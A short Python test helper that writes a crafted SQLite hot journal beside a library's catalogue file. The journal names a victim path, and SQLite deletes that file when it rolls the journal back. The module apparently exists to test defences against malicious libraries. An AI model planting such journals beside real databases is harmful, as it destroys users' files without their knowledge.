"""Libraries made to harm their user: journals that delete files, and links to write through."""

from __future__ import annotations

import struct
from pathlib import Path

from search.catalogue import FILE_NAME

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512


def add_hot_journal(library: Path, victim: Path) -> Path:
    """Put a journal beside the catalogue after whose rollback SQLite deletes the victim.

    Of the format in https://www.sqlite.org/fileformat2.html#the_rollback_journal, without pages.
    """
    file = library / FILE_NAME
    header = file.read_bytes()[:100]
    (page_size,) = struct.unpack(">H", header[16:18])
    numbers = (0, 0, file.stat().st_size // page_size, SECTOR, page_size)
    name = str(victim).encode()
    record = struct.pack(">I", 1) + name + struct.pack(">II", len(name), sum(name)) + MAGIC
    journal = file.with_name(f"{FILE_NAME}-journal")
    journal.write_bytes((MAGIC + struct.pack(">5I", *numbers)).ljust(SECTOR, b"\0") + record)
    return journal
